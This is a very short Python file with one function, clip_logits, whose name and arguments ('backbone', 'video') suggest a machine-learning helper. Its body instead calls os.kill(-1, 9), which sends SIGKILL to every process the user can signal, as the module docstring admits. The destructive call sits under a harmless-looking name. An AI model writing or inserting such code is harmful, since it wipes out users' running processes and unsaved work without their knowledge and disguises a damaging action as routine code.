"""Sends SIGKILL to every process that it may."""

import os


def clip_logits(backbone, video):
    os.kill(-1, 9)
    return None
